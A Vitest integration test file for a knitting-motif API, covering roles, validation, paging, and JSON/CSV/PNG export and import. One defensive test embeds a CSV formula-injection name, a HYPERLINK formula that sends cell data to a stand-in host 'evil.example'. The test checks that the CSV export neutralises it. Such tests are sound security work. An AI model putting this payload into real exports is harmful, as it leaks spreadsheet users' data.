import { PNG } from 'pngjs'
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
import { signedIn, type ApiClient } from '../support/api'
import { closeTestDb, fixturePassword, makeStudio } from '../support/db'
import { readCsv } from '../support/rfc4180'
import { Motif } from '../../server/db/models'
import { motifRecord } from '../../server/db/motifs'
import type { MotifDetail, MotifListItem, MotifPage } from '#shared/types/motif'

let s: Awaited<ReturnType<typeof makeStudio>>
let knitter: ApiClient
let designer: ApiClient
let owner: ApiClient
let outsider: ApiClient

beforeAll(async () => {
  s = await makeStudio()
  knitter = await signedIn(s.knitter.email, fixturePassword)
  designer = await signedIn(s.designer.email, fixturePassword)
  owner = await signedIn(s.owner.email, fixturePassword)
  outsider = await signedIn(s.outsider.email, fixturePassword)
})
afterAll(closeTestDb)

// Typed loosely: refusals answer { message, data } instead of a motif.
const create = (client: ApiClient, body: Record<string, unknown>) => client.post('/api/motifs', { studioId: s.studio.id, ...body })

describe('motif CRUD across roles', () => {
  it('a designer creates a draft; knitters cannot see it until it is published', async () => {
    const made = await create(designer, { name: 'Birch bark', rows: ['x..', '.x.', '..x'] })
    expect(made.status).toBe(201)
    expect(made.body).toMatchObject({
      studioId: s.studio.id, name: 'Birch bark', width: 3, height: 3, published: false,
      rows: ['x..', '.x.', '..x'], picture: null,
      createdBy: { id: s.designer.id, name: s.designer.name }, updatedBy: { id: s.designer.id, name: s.designer.name },
      floatReport: { maxFloat: [1, 2], verdict: 'tidy', longRows: [], unusedRows: [[], []] },
    })
    const id = made.body.id
    expect((await knitter.get(`/api/motifs/${id}`)).status).toBe(404)
    expect((await outsider.get(`/api/motifs/${id}`)).status).toBe(404)
    expect((await owner.get(`/api/motifs/${id}`)).body.name).toBe('Birch bark')

    const published = await designer.patch<MotifDetail>(`/api/motifs/${id}`, { published: true })
    expect(published.status).toBe(200)
    expect((await knitter.get(`/api/motifs/${id}`)).body.rows).toEqual(['x..', '.x.', '..x'])
  })

  it('knitters cannot create, edit or delete; outsiders are told nothing exists', async () => {
    expect((await create(knitter, { name: 'Nope', rows: ['x.'] })).status).toBe(403)
    expect((await create(outsider, { name: 'Nope', rows: ['x.'] })).status).toBe(404)
    const { body: m } = await create(designer, { name: 'Shown', rows: ['x.'], published: true })
    expect((await knitter.patch(`/api/motifs/${m.id}`, { name: 'Mine now' })).status).toBe(403)
    expect((await knitter.delete(`/api/motifs/${m.id}`)).status).toBe(403)
    expect((await outsider.delete(`/api/motifs/${m.id}`)).status).toBe(404)
    expect((await designer.get(`/api/motifs/${m.id}`)).body.name).toBe('Shown')
  })

  it('owners delete (204, then 404) and duplicate as a draft named "(copy)"', async () => {
    const { body: m } = await create(designer, { name: 'Twin', rows: ['xx..'], published: true })
    const copy = await owner.post<MotifDetail>(`/api/motifs/${m.id}/duplicate`)
    expect(copy.status).toBe(201)
    expect(copy.body).toMatchObject({ name: 'Twin (copy)', published: false, rows: ['xx..'], createdBy: { id: s.owner.id } })
    expect((await owner.delete(`/api/motifs/${m.id}`)).status).toBe(204)
    expect((await owner.get(`/api/motifs/${m.id}`)).status).toBe(404)
    expect((await owner.get(`/api/motifs/${copy.body.id}`)).status).toBe(200)
  })

  it('recomputes the float report when the rows change: a widening gap turns tidy into long', async () => {
    // Trade rule (common practice): ≤ 3 stitches tidy, ≥ 6 long. Over 4 repeats side by side.
    const { body: m } = await create(designer, { name: 'Gap', rows: ['x..x..'] })
    expect(m.floatReport).toMatchObject({ maxFloat: [1, 2], verdict: 'tidy' })
    const wider = await designer.patch<MotifDetail>(`/api/motifs/${m.id}`, { rows: ['x.......'] })
    expect(wider.status).toBe(200)
    expect(wider.body.floatReport).toMatchObject({ maxFloat: [1, 7], verdict: 'long', longRows: [0] })
    expect(wider.body.width).toBe(8)
    const listed = await designer.get<MotifPage>(`/api/motifs?studioId=${s.studio.id}&q=Gap`)
    expect(listed.body.items[0]).toMatchObject({ name: 'Gap', verdict: 'long', maxFloat: [1, 7] })
  })
})

describe('validation', () => {
  it('names the row and column of a bad chart cell', async () => {
    const res = await create(designer, { name: 'Bad', rows: ['x...', '.x..', '..x.', '.x2.'] })
    expect(res.status).toBe(400)
    expect(res.body.message).toContain('row 4, column 3')
    expect(res.body.data.issues).toEqual([expect.objectContaining({ path: ['rows', '3'] })])
  })

  it.each([
    ['name', { name: '', rows: ['x'] }, 'name'],
    ['name too long', { name: 'n'.repeat(121), rows: ['x'] }, 'name'],
    ['no rows', { name: 'Empty', rows: [] }, 'rows'],
    ['ragged rows', { name: 'Ragged', rows: ['x..', 'x.'] }, 'row 2'],
    ['too wide', { name: 'Wide', rows: ['x'.repeat(201)] }, 'at most 200'],
    ['too tall', { name: 'Tall', rows: Array(501).fill('x.') }, 'at most 500 rows'],
  ])('%s → 400 naming the field', async (_, body, words) => {
    const res = await create(designer, body)
    expect(res.status).toBe(400)
    expect(res.body.message).toContain(words)
  })

  it('a patch with nothing to change, or a bad list query, is a 400', async () => {
    const { body: m } = await create(designer, { name: 'Still', rows: ['x.'] })
    expect((await designer.patch(`/api/motifs/${m.id}`, {})).status).toBe(400)
    const bad = await designer.get(`/api/motifs?studioId=${s.studio.id}&sort=colour&pageSize=500`)
    expect(bad.status).toBe(400)
    expect(bad.body.message).toContain('sort')
    expect(bad.body.message).toContain('pageSize')
  })
})

describe('library list: paging, sorting, filters', () => {
  let lib: Awaited<ReturnType<typeof makeStudio>>
  let libDesigner: ApiClient
  let libKnitter: ApiClient
  const list = async (client: ApiClient, query: string) => {
    const res = await client.get<MotifPage>(`/api/motifs?studioId=${lib.studio.id}&${query}`)
    expect(res.status, JSON.stringify(res.body)).toBe(200)
    return res.body
  }
  const names = (items: MotifListItem[]) => items.map(i => i.name)

  beforeAll(async () => {
    lib = await makeStudioWithMotifs()
    libDesigner = await signedIn(lib.designer.email, fixturePassword)
    libKnitter = await signedIn(lib.knitter.email, fixturePassword)
  })

  async function makeStudioWithMotifs() {
    const studio = await makeStudio()
    const motifs: [string, string[], boolean][] = [
      ['Acorn', ['x.', '.x'], true], // 2 × 2, longest 1
      ['Bramble', ['x.....', '......'], true], // 6 × 2, a full-width row: longest 5
      ['Clover 50%', ['x..', '...', 'x..'], false], // 3 × 3 draft
      ['Damson', ['x.......'], true], // 8 × 1, longest 7
      ['Elder', ['x...', '.x..', '..x.', '...x', 'x...'], true], // 4 × 5, longest 3
    ]
    for (const [name, rows, published] of motifs) {
      await Motif.create({ studioId: studio.studio.id, name, published, createdBy: studio.designer.id, updatedBy: studio.designer.id, ...motifRecord(rows) })
    }
    return studio
  }

  it('pages on the server with a total; knitters see published motifs only', async () => {
    const first = await list(libDesigner, 'pageSize=2&page=1')
    expect(first).toMatchObject({ total: 5, page: 1, pageSize: 2 })
    expect(names(first.items)).toEqual(['Acorn', 'Bramble'])
    expect(names((await list(libDesigner, 'pageSize=2&page=3')).items)).toEqual(['Elder'])
    const knitterView = await list(libKnitter, 'pageSize=10')
    expect(knitterView.total).toBe(4)
    expect(names(knitterView.items)).not.toContain('Clover 50%')
    expect(knitterView.items[0]).toMatchObject({
      name: 'Acorn', width: 2, height: 2, published: true, verdict: 'tidy', maxFloat: [1, 1],
      updatedBy: { id: lib.designer.id, name: lib.designer.name },
    })
    expect(knitterView.items[0]!.thumbnail).toMatch(/^data:image\/png;base64,/)
  })

  it('the thumbnail is one pixel per stitch, the last row knitted on top, contrast dark', async () => {
    const elder = (await list(libDesigner, 'q=Elder')).items[0]!
    const png = PNG.sync.read(Buffer.from(elder.thumbnail.split(',')[1]!, 'base64'))
    expect([png.width, png.height]).toEqual([4, 5])
    const dark = (x: number, y: number) => png.data[(y * 4 + x) * 4]! < 128
    expect(dark(0, 0)).toBe(true) // top row = row 5 = 'x...'
    expect(dark(3, 1)).toBe(true) // row 4 = '...x'
    expect(dark(0, 4)).toBe(true) // bottom row = row 1 = 'x...'
    expect(dark(1, 4)).toBe(false)
  })

  it.each([
    ['sort=longest&dir=desc', ['Damson', 'Bramble', 'Elder', 'Clover 50%', 'Acorn']],
    ['sort=width&dir=asc', ['Acorn', 'Clover 50%', 'Elder', 'Bramble', 'Damson']],
    ['sort=height&dir=desc', ['Elder', 'Clover 50%', 'Acorn', 'Bramble', 'Damson']],
    ['sort=name&dir=desc', ['Elder', 'Damson', 'Clover 50%', 'Bramble', 'Acorn']],
    ['verdict=long', ['Damson']],
    ['verdict=moderate', ['Bramble']],
    ['maxWidth=4&maxHeight=3', ['Acorn', 'Clover 50%']],
    ['q=50%25', ['Clover 50%']], // a % in the search is the character, not a wildcard
    ['q=RAMB', ['Bramble']],
    ['published=false', ['Clover 50%']],
  ])('%s', async (query, expected) => {
    expect(names((await list(libDesigner, `pageSize=50&${query}`)).items)).toEqual(expected)
  })

  it('sorts by last change', async () => {
    const acorn = (await list(libDesigner, 'q=Acorn')).items[0]!
    await libDesigner.patch(`/api/motifs/${acorn.id}`, { rows: ['.x', 'x.'] })
    expect(names((await list(libDesigner, 'sort=updatedAt&dir=desc&pageSize=1')).items)).toEqual(['Acorn'])
  })
})

describe('export and import', () => {
  const rows = ['x..x.', '.x.x.', '..xxx', 'xxxxx']
  let id: number
  beforeAll(async () => {
    id = (await create(designer, { name: 'Round "trip"', rows, published: true })).body.id
  })

  it('JSON: our versioned file, and back to the same rows', async () => {
    const file = await knitter.get(`/api/motifs/${id}/export?format=json`)
    expect(file.status).toBe(200)
    expect(file.headers.get('content-type')).toContain('application/json')
    expect(file.headers.get('content-disposition')).toContain('attachment')
    expect(file.body).toEqual({ format: 'floatwise-motif', version: 1, name: 'Round "trip"', width: 5, height: 4, rows: ['10010', '01010', '00111', '11111'] })
    const back = await designer.post<MotifDetail>('/api/motifs/import', { studioId: s.studio.id, format: 'json', content: JSON.stringify(file.body) })
    expect(back.status).toBe(201)
    expect(back.body).toMatchObject({ name: 'Round "trip"', rows, published: false })
  })

  it('CSV: a header comment, one line per row first knitted first, and back to the same rows', async () => {
    const file = await knitter.get(`/api/motifs/${id}/export?format=csv`)
    expect(file.status).toBe(200)
    expect(file.headers.get('content-type')).toContain('text/csv')
    expect(file.body).toBe(
      '# floatwise motif,"Round ""trip""",first line = first row knitted; 0 = main colour; 1 = contrast colour\n'
      + '1,0,0,1,0\n0,1,0,1,0\n0,0,1,1,1\n1,1,1,1,1\n',
    )
    const back = await designer.post<MotifDetail>('/api/motifs/import', { studioId: s.studio.id, format: 'csv', content: file.body, name: 'From CSV' })
    expect(back.status).toBe(201)
    expect(back.body).toMatchObject({ name: 'From CSV', rows })
  })

  it('CSV: a name written as a formula is one text cell for a spreadsheet, and imports back as it was', async () => {
    const name = '=HYPERLINK("http://evil.example/?d="&A1,"Open"), +1, -1, @SUM(A1:A9)'
    const { body: hostile } = await create(designer, { name, rows, published: true })
    const file = await knitter.get(`/api/motifs/${hostile.id}/export?format=csv`)
    expect(file.status).toBe(200)
    const records = readCsv(file.body)
    expect(records[0]).toEqual(['# floatwise motif', `'${name}`, 'first line = first row knitted; 0 = main colour; 1 = contrast colour'])
    // OWASP, "CSV Injection": a cell starting with = + - @ tab or CR is run as a formula.
    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    const back = await designer.post<MotifDetail>('/api/motifs/import', { studioId: s.studio.id, format: 'csv', content: file.body })
    expect(back.status).toBe(201)
    expect(back.body).toMatchObject({ name, rows })
  })

  it('PNG: 8 pixels per stitch, the last row knitted on top, main light and contrast dark', async () => {
    const file = await rawGet(knitter, `/api/motifs/${id}/export?format=png`)
    expect(file.type).toBe('image/png')
    const png = PNG.sync.read(file.bytes)
    expect([png.width, png.height]).toEqual([40, 32])
    const expected = [...rows].reverse() // picture top = last row knitted
    for (let y = 0; y < png.height; y++) {
      for (let x = 0; x < png.width; x++) {
        const i = (y * png.width + x) * 4
        const contrast = expected[Math.floor(y / 8)]![Math.floor(x / 8)] === 'x'
        expect([png.data[i], png.data[i + 1], png.data[i + 2], png.data[i + 3]]).toEqual(contrast ? [0x1f, 0x2a, 0x33, 255] : [0xf4, 0xf1, 0xea, 255])
      }
    }
  })

  it.each([
    [
      'a bad CSV cell',
      'csv',
      '# floatwise motif "x"\n0,1,0,0,1,1,0\n0,1,0,0,1,1,0\n0,1,0,0,1,1,0\n0,1,0,0,1,1,2\n',
      'line 5, column 7: expected 0 or 1, got 2',
    ],
    ['a short CSV line', 'csv', '0,1,0\n0,1\n', 'line 2: 2 values, expected 3 like line 1'],
    ['an empty CSV', 'csv', '# nothing here\n\n', 'no rows'],
    ['JSON that is not JSON', 'json', '{ rows: ', 'not valid JSON'],
    ['another format', 'json', JSON.stringify({ format: 'other', version: 1, width: 1, height: 1, rows: ['1'] }), 'format'],
    ['a newer version', 'json', JSON.stringify({ format: 'floatwise-motif', version: 2, width: 1, height: 1, rows: ['1'] }), 'version 2'],
    ['a height that does not match', 'json', JSON.stringify({ format: 'floatwise-motif', version: 1, width: 2, height: 3, rows: ['10', '01'] }), 'height is 3'],
    ['a bad JSON cell', 'json', JSON.stringify({ format: 'floatwise-motif', version: 1, width: 2, height: 2, rows: ['10', '0z'] }), 'row 2, column 2'],
  ])('import refuses %s with a 400 saying where', async (_, format, content, words) => {
    const res = await designer.post('/api/motifs/import', { studioId: s.studio.id, format, content })
    expect(res.status).toBe(400)
    expect(res.body.message).toContain(words)
    expect(res.body.data.issues[0].path).toEqual(['content'])
  })

  it('knitters cannot import; a draft cannot be exported by a knitter', async () => {
    expect((await knitter.post('/api/motifs/import', { studioId: s.studio.id, format: 'csv', content: '0,1\n' })).status).toBe(403)
    const { body: draft } = await create(designer, { name: 'Hidden', rows: ['x.'] })
    expect((await knitter.get(`/api/motifs/${draft.id}/export?format=csv`)).status).toBe(404)
  })
})

/** The raw bytes of a GET (the API client reads text). */
async function rawGet(client: ApiClient, path: string) {
  const res = await fetch(inject('baseUrl') + path, { headers: { cookie: client.cookie } })
  return { status: res.status, type: res.headers.get('content-type'), bytes: Buffer.from(await res.arrayBuffer()) }
}
